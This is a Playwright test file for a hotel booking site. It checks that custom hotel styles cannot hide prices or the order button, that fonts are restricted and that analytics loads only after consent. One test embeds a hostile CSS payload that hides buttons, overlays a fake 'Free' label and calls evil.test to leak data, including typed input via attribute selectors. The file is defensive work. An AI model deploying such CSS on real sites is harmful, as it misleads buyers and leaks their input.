import type { Locator, Page } from "@playwright/test";
import { SearchScreen } from "./pages/search-screen.ts";
import { SummaryScreen } from "./pages/summary-screen.ts";
import { chooseRoom, fillInOrder } from "./support/book.ts";
import { demoFile } from "./support/demo-file.ts";
import { PETR } from "./support/guests.ts";
import { expect, test } from "./support/journey.ts";
import { quietStay } from "./support/quiet-stay.ts";

const STAY = quietStay(9);

const HOSTILE = `  customCss: |
    :root { --color-bg: #1d201f; --color-text-1: #1d201f; --color-primary: #1d201f; }
    * { color: #1d201f; background: #1d201f; font-family: Webdings; letter-spacing: 4px; box-shadow: 0 0 24px 24px #1d201f; }
    button, .payment-form-page__order { display: none; visibility: hidden; position: fixed; opacity: 0; }
    .price__root { background: url(https://evil.test/price); text-decoration: line-through; }
    input[value^="P"] { background: url(https://evil.test/typed); }
    @import "https://evil.test/sheet";
    @font-face { font-family: spy; src: url(https://evil.test/font); }
    #root::after { content: "Free"; position: fixed; inset: 0; }
`;

/** Elements with a ground that are painted over another, those too that let clicks through. */
function coversOf(protectedPart: Locator): Promise<string[]> {
  return protectedPart.evaluate((part) => {
    const reachable = new CSSStyleSheet();
    reachable.replaceSync("* { pointer-events: auto !important }");
    document.adoptedStyleSheets.push(reachable);
    const { left, top, width, height } = part.getBoundingClientRect();
    const above = [0.1, 0.5, 0.9].flatMap((share): (Element | string)[] => {
      const stack = document.elementsFromPoint(left + width * share, top + height / 2);
      const at = stack.indexOf(part);
      return at < 0 ? ["not there"] : stack.slice(0, at).filter((other) => !part.contains(other));
    });
    document.adoptedStyleSheets.pop();
    return above
      .filter(
        (other) => typeof other === "string" || !getComputedStyle(other).backgroundColor.endsWith(", 0)"),
      )
      .map((other) => (typeof other === "string" ? other : other.className));
  });
}

/** Contrast of an element's words with the ground that they stand on, by WCAG 2. */
function contrastOf(words: Locator): Promise<number> {
  return words.evaluate((element) => {
    const channels = (color: string) => (color.match(/[\d.]+/g) ?? []).map(Number);
    const luminance = (color: string) =>
      channels(color)
        .slice(0, 3)
        .map((value) => value / 255)
        .map((value) => (value <= 0.04045 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4))
        .reduce((sum, value, index) => sum + value * ([0.2126, 0.7152, 0.0722][index] ?? 0), 0);
    let ground: Element | null = element;
    while (ground && (channels(getComputedStyle(ground).backgroundColor)[3] ?? 1) === 0)
      ground = ground.parentElement;
    const [one, other] = [
      luminance(getComputedStyle(element).color),
      ground ? luminance(getComputedStyle(ground).backgroundColor) : 1,
    ];
    return (Math.max(one, other) + 0.05) / (Math.min(one, other) + 0.05);
  });
}

async function expectReadable(part: Locator): Promise<void> {
  await expect(part).toBeVisible();
  await part.scrollIntoViewIfNeeded();
  expect(await coversOf(part)).toEqual([]);
  expect(await contrastOf(part)).toBeGreaterThan(4.5);
  expect(await part.evaluate((element) => getComputedStyle(element).fontFamily)).toContain("Manrope");
}

function requestsElsewhere(page: Page, origin: string): string[] {
  const elsewhere: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(origin) && !request.url().startsWith("data:"))
      elsewhere.push(request.url());
  });
  return elsewhere;
}

test("A hotel's hostile styles ask nobody elsewhere, and hide neither price nor order button", async ({
  page,
  engine,
}) => {
  await engine.importHotel(await demoFile("hostile", [["  scheme: light\n", `  scheme: light\n${HOSTILE}`]]));
  const elsewhere = requestsElsewhere(page, engine.origin);
  await page.goto(`${engine.origin}/?client=hostile&arrival=${STAY.arrival}&departure=${STAY.departure}`);
  await expect(page.locator("html[data-own-styles]")).toHaveCount(1);
  await new SearchScreen(page).shownAgain();
  await expectReadable(
    page.locator(".room-card__root, article").first().locator(".price__root > span").first(),
  );
  await chooseRoom(page, "Podkrovní pokoj");
  await expectReadable(new SummaryScreen(page).total());
  const payment = await fillInOrder(page, PETR, "Na místě");
  await expectReadable(payment.order);
  await expectReadable(page.getByText(/^Souhlasím/));
  expect(elsewhere).toEqual([]);
});

test("A hotel's letters are loaded, and no others", { tag: "@any-width" }, async ({ page, engine }) => {
  await engine.importHotel(
    await demoFile("letters", [["  scheme: light\n", "  scheme: dark\n  font: fraunces-headings\n"]]),
  );
  await page.goto(`${engine.origin}/?client=letters&arrival=${STAY.arrival}&departure=${STAY.departure}`);
  await new SearchScreen(page).shownAgain();
  const families = await page.evaluate(async () => {
    await document.fonts.ready;
    return [
      ...new Set([...document.fonts].filter(({ status }) => status === "loaded").map(({ family }) => family)),
    ];
  });
  expect(families.filter((family) => !family.includes("Fallback")).toSorted()).toEqual([
    "Fraunces Variable",
    "Manrope Variable",
  ]);
});

test(
  "Who measures is loaded after a yes alone, and goes after a no",
  { tag: "@any-width" },
  async ({ page, engine }) => {
    await engine.importHotel(
      await demoFile("measured", [
        ["\nsearch:\n", "\nanalytics: { providers: [{ type: ga4, id: G-AB12CD34EF }] }\n\nsearch:\n"],
      ]),
    );
    const elsewhere = requestsElsewhere(page, engine.origin);
    // The service itself is none of ours: an empty program stands for it.
    await page.route("https://www.googletagmanager.com/**", (route) =>
      route.fulfill({ contentType: "text/javascript", body: "" }),
    );
    await page.goto(`${engine.origin}/?client=measured&arrival=${STAY.arrival}&departure=${STAY.departure}`);
    const question = page.getByRole("region", { name: "Smíme měřit návštěvnost?" });
    const refuse = question.getByRole("button", { name: "Odmítnout" });
    await expect(refuse).toBeVisible();
    const [no, yes] = await Promise.all(
      [refuse, question.getByRole("button", { name: "Souhlasím" })].map((button) => button.boundingBox()),
    );
    expect(no?.width).toBe(yes?.width);
    await refuse.click();
    await expect(question).toBeHidden();
    await page.reload();
    await new SearchScreen(page).shownAgain();
    await expect(question).toBeHidden();
    expect(elsewhere).toEqual([]);

    const settings = page.getByRole("button", { name: "Nastavení měření" });
    await settings.click();
    await expect(question).toBeFocused();
    await question.getByRole("button", { name: "Souhlasím" }).click();
    await expect.poll(() => elsewhere).toEqual(["https://www.googletagmanager.com/gtag/js?id=G-AB12CD34EF"]);

    await settings.click();
    await question.getByRole("button", { name: "Odmítnout" }).click();
    await page.waitForEvent("load");
    await new SearchScreen(page).shownAgain();
    await expect(page.locator('script[src*="googletagmanager"]')).toHaveCount(0);
  },
);
